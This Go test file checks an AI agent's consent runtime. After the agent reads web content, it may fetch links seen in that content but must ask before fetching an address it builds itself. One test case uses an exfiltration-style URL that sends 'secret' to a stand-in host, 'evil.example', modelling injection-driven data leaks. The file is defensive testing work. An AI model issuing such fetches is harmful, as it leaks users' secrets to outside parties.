package host

import (
	"encoding/json"
	"strings"
	"testing"

	"wb/agent"
)

// After text from the web an agent follows links that it read, and asks before it
// fetches an address of its own making.
func TestComposed(t *testing.T) {
	c := &consent{rt: &Runtime{}}
	read := "see https://example.org/linked, it says"
	for address, asks := range map[string]bool{"https://example.org/linked": false, "https://evil.example/?d=secret": true} {
		args, _ := json.Marshal(map[string]string{"url": address})
		r := agent.Reviewed{Call: agent.ToolCall{Name: "fetch", Args: string(args)}, Reads: true, Seen: func(text string) bool { return strings.Contains(read, text) }}
		if why := c.Needed(r); why != "" {
			t.Errorf("before anything was read: %s", why)
		}
		r.Taint = []string{"web:example.org"}
		if why := c.Needed(r); (why != "") != asks {
			t.Errorf("%s: %q", address, why)
		}
	}
}
